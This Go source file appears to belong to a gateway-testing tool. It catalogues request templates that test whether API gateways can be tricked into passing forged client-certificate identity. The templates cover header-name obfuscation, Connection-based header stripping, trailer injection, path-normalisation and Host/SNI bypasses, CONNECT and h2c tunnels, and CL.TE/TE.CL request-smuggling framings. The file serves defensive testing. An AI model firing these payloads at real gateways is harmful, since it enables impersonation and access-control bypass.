package probe

import "strings"

// A Spoof is one way in which gateways have been bypassed. Its texts have names in {…},
// which [facts.fill] replaces.
type Spoof struct {
	Name string
	// Threats are the numbers of docs/checks.md that it belongs to.
	Threats []string
	// About says what is tried.
	About string
	Message
	// Then follows on the same connection, whatever the answer was.
	Then string
	// Check decides whether it got through.
	Check check
	// Protocols are the versions of HTTP that can say it.
	Protocols []string
	// Callers send it.
	Callers []string
	// Headers are what {name} stands for. Default: the headers that carry the identity.
	Headers []string
}

// Message is a request. Its zero value is a GET of the probed URL.
type Message struct {
	Method, Target, Version string
	Host                    string // in the Host line or :authority
	SNI                     string // "none" for a handshake without
	Lines                   []string
	Body                    string
	Trailers                []string
	// Raw is the whole message, in place of everything else but SNI.
	Raw string
}

// check is how a spoof is judged.
type check string

const (
	// checkForgery asks whether the forged value arrived in a header that the API reads.
	checkForgery check = "forgery"
	// checkRemoval asks whether the identity that the gateway set was lost.
	checkRemoval check = "removal"
	// checkBypass asks whether the request arrived although its caller is refused.
	checkBypass check = "bypass"
	// checkSmuggling asks whether a request inside the request arrived.
	checkSmuggling check = "smuggling"
	// checkFraming also asks whether an API could see another end of the body.
	checkFraming check = "framing"
	// checkUpgrade asks whether the API was asked to switch to HTTP/2.
	checkUpgrade check = "upgrade"
	// checkFirst asks whether the forged value is the first of a list.
	checkFirst check = "first"
	// checkLeak asks whether the identity is another caller's.
	checkLeak check = "leak"
)

// The callers.
const (
	// The certificate whose identity is to be protected, none, and another client's.
	WithCertificate    = "certificate"
	WithoutCertificate = "no certificate"
	WithOther          = "other certificate"
)

var (
	h1      = []string{"h1"}
	h2      = []string{"h2"}
	h1h2    = []string{"h1", "h2"}
	all     = []string{"h1", "h2", "h3"}
	owner   = []string{WithCertificate}
	both    = []string{WithCertificate, WithoutCertificate}
	anybody = []string{WithCertificate, WithoutCertificate, WithOther}
)

// foreignHeaders are those in which gateways send an identity.
var foreignHeaders = []string{
	"X-Client-ID", "Client-Cert", "Client-Cert-Chain", "X-Forwarded-Client-Cert", "X-Forwarded-Tls-Client-Cert", "X-Forwarded-Tls-Client-Cert-Info",
	"X-SSL-Client-Cert", "X-SSL-Client-S-DN", "X-SSL-Client-Verify", "SSL-Client-Cert", "X-Client-Cert", "X-Client-DN", "X-Client-S-DN",
	"X-Client-I-DN", "X-Client-Verify", "X-Amzn-Mtls-Clientcert", "X-Amzn-Mtls-Clientcert-Subject", "Cf-Client-Cert-Der-Base64",
	"Cf-Cert-Subject-DN", "Cf-Cert-Verified", "X-ARR-ClientCert", "X-Consumer-ID", "X-Consumer-Username",
}

// Spoofs returns everything that is tried, in the order of the report.
func Spoofs() []Spoof {
	var list []Spoof
	for _, family := range [][]Spoof{headerSpoofs, lineSpoofs, connectionSpoofs, trailerSpoofs, forwardedSpoofs, pathSpoofs, hostSpoofs, tunnelSpoofs, framingSpoofs, reuseSpoofs} {
		list = append(list, family...)
	}
	return list
}

func lines(list ...string) Message { return Message{Lines: list} }

var headerSpoofs = []Spoof{
	{"header", []string{"A1"}, "the identity header", lines("{name}: {forged}"), "", checkForgery, all, anybody, nil},
	{"header-lower", []string{"A1"}, "the identity header in lower case", lines("{lower}: {forged}"), "", checkForgery, h1, anybody, nil},
	{"header-upper", []string{"A1"}, "the identity header in upper case", lines("{upper}: {forged}"), "", checkForgery, h1, anybody, nil},
	{"header-http10", []string{"A1"}, "the identity header over HTTP/1.0", Message{Version: "HTTP/1.0", Lines: []string{"{name}: {forged}"}}, "", checkForgery, h1, both, nil},
	{"header-options", []string{"A1"}, "the identity header with OPTIONS", Message{Method: "OPTIONS", Lines: []string{"{name}: {forged}"}}, "", checkForgery, all, both, nil},
	{"header-method", []string{"A1"}, "the identity header with a method that nobody knows", Message{Method: "PROBE", Lines: []string{"{name}: {forged}"}}, "", checkForgery, all, both, nil},
	{"underscores", []string{"A2"}, "_ for each hyphen of the name", lines("{underscores}: {forged}"), "", checkForgery, all, anybody, nil},
	{"underscore", []string{"A2"}, "_ for the last hyphen of the name", lines("{underscore}: {forged}"), "", checkForgery, all, both, nil},
	{"dots", []string{"A2"}, ". for each hyphen of the name", lines("{dots}: {forged}"), "", checkForgery, all, anybody, nil},
	{"twice", []string{"A3"}, "the identity header twice", lines("{name}: {forged}", "{name}: {forged}"), "", checkForgery, all, anybody, nil},
	{"empty-first", []string{"A3"}, "an empty identity header before a forged one", lines("{name}:", "{name}: {forged}"), "", checkForgery, all, both, nil},
	{"comma-list", []string{"A3"}, "a list of the honest and a forged value", lines("{name}: {honest}, {forged}"), "", checkForgery, all, both, nil},
	{"spaces", []string{"A3"}, "spaces around the value", lines("{name}:    {forged}   "), "", checkForgery, h1, both, nil},
	{"long", []string{"A3"}, "a value of 4 KiB", lines("{name}: {forged}{long}"), "", checkForgery, all, both, nil},
	{"oversize", []string{"A3"}, "a value of 64 KiB", lines("{name}: {forged}{huge}"), "", checkForgery, h1h2, both, nil},
	{"bearer", []string{"A10"}, "a forged token", lines("Authorization: Bearer {forged}"), "", checkForgery, all, anybody, []string{"Authorization"}},
	{"other-gateways", []string{"A8"}, "the identity header of another gateway", lines("{name}: {forged}"), "", checkForgery, h1h2, both, foreignHeaders},
}

var lineSpoofs = []Spoof{
	{"space-before-colon", []string{"A1"}, "a space before the colon", lines("{name} : {forged}"), "", checkForgery, h1, both, nil},
	{"folded-value", []string{"A3"}, "the value on a line of its own", lines("{name}:\r\n {forged}"), "", checkForgery, h1, both, nil},
	{"folded-name", []string{"A3"}, "the header as the continuation of another", lines("X-Probe: a\r\n {name}: {forged}"), "", checkForgery, h1, both, nil},
	{"bare-cr", []string{"A7"}, "the header after a CR without LF", lines("X-Probe: a\r{name}: {forged}"), "", checkForgery, h1, both, nil},
	{"bare-lf", []string{"A7"}, "the header after an LF without CR", lines("X-Probe: a\n{name}: {forged}"), "", checkForgery, h1, both, nil},
	{"nul", []string{"A7"}, "NUL after the name", lines("{name}\x00: {forged}"), "", checkForgery, h1h2, both, nil},
	{"line-break-in-h2", []string{"A7"}, "a line break within a value", lines("x-probe: a\r\n{name}: {forged}"), "", checkForgery, h2, both, nil},
}

var connectionSpoofs = []Spoof{
	{"connection", []string{"A5"}, "the identity header named in Connection", lines("Connection: close, {name}"), "", checkRemoval, h1, owner, nil},
	{"connection-lower", []string{"A5"}, "the same in lower case and twice", lines("Connection: {lower}", "Connection: keep-alive, {lower}"), "", checkRemoval, h1, owner, nil},
	{"connection-forged", []string{"A1", "A5"}, "a forged header that is named in Connection", lines("Connection: close, {name}", "{name}: {forged}"), "", checkForgery, h1, anybody, nil},
	{"proxy-connection", []string{"A5"}, "the identity header named in Proxy-Connection", lines("Proxy-Connection: {name}"), "", checkRemoval, h1, owner, nil},
	{"connection-in-h2", []string{"A5"}, "the same in Connection over HTTP/2, which forbids it", lines("connection: close, {lower}"), "", checkRemoval, h2, owner, nil},
}

var trailerSpoofs = []Spoof{
	{"trailer", []string{"A6"}, "the identity header in a declared trailer", Message{Method: "POST", Lines: []string{"Trailer: {name}"}, Body: "x", Trailers: []string{"{name}: {forged}"}}, "", checkForgery, h1h2, anybody, nil},
	{"trailer-undeclared", []string{"A6"}, "the identity header in an undeclared trailer", Message{Method: "POST", Body: "x", Trailers: []string{"{name}: {forged}"}}, "", checkForgery, h1h2, both, nil},
	{"trailer-underscores", []string{"A2", "A6"}, "_ for each hyphen in a trailer", Message{Method: "POST", Lines: []string{"Trailer: {underscores}"}, Body: "x", Trailers: []string{"{underscores}: {forged}"}}, "", checkForgery, h1h2, both, nil},
	{"trailer-dots", []string{"A2", "A6"}, ". for each hyphen in a trailer", Message{Method: "POST", Lines: []string{"Trailer: {dots}"}, Body: "x", Trailers: []string{"{dots}: {forged}"}}, "", checkForgery, h1h2, both, nil},
	{"trailer-other-gateways", []string{"A6", "A8"}, "another gateway's identity header in a trailer", Message{Method: "POST", Lines: []string{"Trailer: {name}"}, Body: "x", Trailers: []string{"{name}: {forged}"}}, "", checkForgery, h1, both, foreignHeaders[:7]},
}

var forwardedSpoofs = []Spoof{
	{"forwarded", nil, "a forged address, host or scheme, first in the list", lines("{name}: {forged}"), "", checkFirst, h1h2, both, []string{"X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto"}},
}

// target returns a request for a path, with a forged header in case the guard is not
// asked.
func target(path string) Message { return Message{Target: path, Lines: []string{"{name}: {forged}"}} }

var pathSpoofs = []Spoof{
	{"double-slash", []string{"D3"}, "two slashes before the path", target("/{path}"), "", checkBypass, h1h2, both, nil},
	{"dot-segment", []string{"D3"}, "/. before the path", target("/.{path}"), "", checkBypass, h1h2, both, nil},
	{"parent", []string{"D3"}, "/probe/.. before the path", target("/probe/..{path}"), "", checkBypass, h1h2, both, nil},
	{"parent-semicolon", []string{"D3"}, "/probe/..; before the path, as Tomcat reads it", target("/probe/..;{path}"), "", checkBypass, h1h2, both, nil},
	{"parent-encoded", []string{"D3"}, "/probe/%2e%2e before the path", target("/probe/%2e%2e{path}"), "", checkBypass, h1h2, both, nil},
	{"slash-encoded", []string{"D3"}, "%2f after the parent", target("/probe/..%2f{rest}"), "", checkBypass, h1h2, both, nil},
	{"letter-encoded", []string{"D3"}, "a letter of the path as %xx", target("{encoded}"), "", checkBypass, h1h2, both, nil},
	{"letter-encoded-twice", []string{"D3"}, "a letter of the path as %25xx", target("{encoded2}"), "", checkBypass, h1h2, both, nil},
	{"path-upper", []string{"D3"}, "the path in upper case", target("{PATH}"), "", checkBypass, h1h2, both, nil},
	{"path-semicolon", []string{"D3"}, ";probe after the path", target("{path};probe"), "", checkBypass, h1h2, both, nil},
	{"path-slash", []string{"D3"}, "/ after the path", target("{path}/"), "", checkBypass, h1h2, both, nil},
	{"path-dot", []string{"D3"}, "/. after the path", target("{path}/."), "", checkBypass, h1h2, both, nil},
	{"path-nul", []string{"D3"}, "%00 after the path", target("{path}%00"), "", checkBypass, h1h2, both, nil},
	{"backslash", []string{"D3"}, `\ in place of a slash`, target(`/probe/..\{rest}`), "", checkBypass, h1h2, both, nil},
	{"absolute-form", []string{"D1", "D3"}, "the whole URL as the target", target("{scheme}://{host}{path}"), "", checkBypass, h1, both, nil},
}

var forgedLine = []string{"{name}: {forged}"}

var hostSpoofs = []Spoof{
	{"absolute-form-host", []string{"D1"}, "another host in the target than in Host", Message{Target: "{scheme}://{host}{path}", Host: "probe.invalid", Lines: forgedLine}, "", checkBypass, h1, both, nil},
	{"host-upper", []string{"D1"}, "the host in upper case", Message{Host: "{HOST}", Lines: forgedLine}, "", checkBypass, h1h2, both, nil},
	{"host-dot", []string{"D1"}, "a dot after the host", Message{Host: "{host}.", Lines: forgedLine}, "", checkBypass, h1h2, both, nil},
	{"host-port", []string{"D1"}, "another port after the host", Message{Host: "{hostname}:1", Lines: forgedLine}, "", checkBypass, h1h2, both, nil},
	{"host-twice", []string{"D1"}, "a second Host", Message{Lines: []string{"Host: probe.invalid", "{name}: {forged}"}}, "", checkBypass, h1, both, nil},
	{"host-in-h2", []string{"D1"}, "another Host than :authority", Message{Lines: []string{"host: probe.invalid", "{name}: {forged}"}}, "", checkBypass, h2, both, nil},
	{"sni-other", []string{"D1"}, "another name in the handshake than in Host", Message{SNI: "probe.invalid", Lines: forgedLine}, "", checkBypass, h1h2, both, nil},
	{"sni-none", []string{"D1"}, "no name in the handshake", Message{SNI: "none", Lines: forgedLine}, "", checkBypass, h1h2, both, nil},
}

// smuggledBody is a message whose body is a request, after these lines.
func smuggledBody(list ...string) Message {
	head := append([]string{"POST {path} HTTP/1.1", "Host: {host}", "X-Probe-Nonce: {nonce}"}, list...)
	return Message{Raw: strings.Join(head, "\r\n") + "\r\n\r\n{smuggled}"}
}

var tunnelSpoofs = []Spoof{
	{"connect", []string{"A9", "D6"}, "CONNECT, then a request in the tunnel", Message{Raw: "CONNECT {hostname}:443 HTTP/1.1\r\nHost: {hostname}:443\r\nX-Probe-Nonce: {nonce}\r\n\r\n"}, "{smuggled}", checkSmuggling, h1, both, nil},
	{"connect-body", []string{"D6"}, "a request as the body of CONNECT", Message{Raw: "CONNECT {hostname}:443 HTTP/1.1\r\nHost: {hostname}:443\r\nContent-Length: {length}\r\nX-Probe-Nonce: {nonce}\r\n\r\n{smuggled}"}, "", checkSmuggling, h1, both, nil},
	{"connect-in-h2", []string{"D6"}, "a request in the tunnel of CONNECT over HTTP/2", Message{Method: "CONNECT", Body: "{smuggled}"}, "", checkSmuggling, h2, both, nil},
	{"upgrade-h2c", []string{"D6"}, "Upgrade to HTTP/2, in which the gateway sees no requests", lines("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), "{smuggled}", checkUpgrade, h1, both, nil},
	{"upgrade-websocket", []string{"D6"}, "Upgrade to a version of WebSocket that nobody knows, then a request", lines("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777", "Sec-WebSocket-Key: cHJvYmVwcm9iZXByb2JlcA=="), "{smuggled}", checkSmuggling, h1, both, nil},
	{"upgrade-unknown", []string{"D6"}, "Upgrade to a protocol that nobody knows, then a request", lines("Connection: Upgrade", "Upgrade: probe"), "{smuggled}", checkSmuggling, h1, both, nil},
}

var framingSpoofs = []Spoof{
	{"cl-te", nil, "Content-Length and Transfer-Encoding, where chunks end first", Message{Raw: "POST {path} HTTP/1.1\r\nHost: {host}\r\nX-Probe-Nonce: {nonce}\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"}, "", checkFraming, h1, both, nil},
	{"te-cl", nil, "Transfer-Encoding and Content-Length, where the length ends first", Message{Raw: "POST {path} HTTP/1.1\r\nHost: {host}\r\nX-Probe-Nonce: {nonce}\r\nTransfer-Encoding: chunked\r\nContent-Length: {te-cl}\r\n\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n"}, "", checkFraming, h1, both, nil},
	{"te-unknown", nil, "Transfer-Encoding: xchunked and a length", smuggledBody("Transfer-Encoding: xchunked", "Content-Length: {length}"), "", checkFraming, h1, both, nil},
	{"te-twice", nil, "Transfer-Encoding twice and a length", smuggledBody("Transfer-Encoding: identity", "Transfer-Encoding: chunked, identity", "Content-Length: {length}"), "", checkFraming, h1, both, nil},
	{"te-space", nil, "a space before the colon of Transfer-Encoding, and a length", smuggledBody("Transfer-Encoding : chunked", "Content-Length: {length}"), "", checkFraming, h1, both, nil},
	{"te-folded", nil, "Transfer-Encoding over two lines, and a length", smuggledBody("Transfer-Encoding:\r\n chunked", "Content-Length: {length}"), "", checkFraming, h1, both, nil},
	{"te-bare-lf", nil, "Transfer-Encoding after an LF without CR, and a length", smuggledBody("X-Probe: a\nTransfer-Encoding: chunked", "Content-Length: {length}"), "", checkFraming, h1, both, nil},
	{"cl-twice", nil, "two different lengths", smuggledBody("Content-Length: {length}", "Content-Length: 0"), "", checkFraming, h1, both, nil},
	{"cl-list", nil, "a list of lengths", smuggledBody("Content-Length: {length}, 0"), "", checkFraming, h1, both, nil},
	{"cl-sign", nil, "a length with a sign", smuggledBody("Content-Length: +{length}"), "", checkFraming, h1, both, nil},
	{"te-in-h2", nil, "Transfer-Encoding over HTTP/2, which forbids it", Message{Method: "POST", Lines: []string{"transfer-encoding: chunked"}, Body: "0\r\n\r\n{smuggled}"}, "", checkFraming, h2, both, nil},
	{"cl-in-h2", nil, "a length over HTTP/2 that the body exceeds", Message{Method: "POST", Lines: []string{"content-length: 0"}, Body: "{smuggled}"}, "", checkFraming, h2, both, nil},
}

var reuseSpoofs = []Spoof{
	{"second-request", []string{"A1"}, "the identity header in the second request of a connection", Message{}, "GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Probe-Nonce: {nonce}\r\n{name}: {forged}\r\n\r\n", checkForgery, h1, anybody, nil},
	{"after-another", []string{"C3"}, "a request right after that of the client", Message{}, "", checkLeak, all, []string{WithoutCertificate, WithOther}, nil},
}
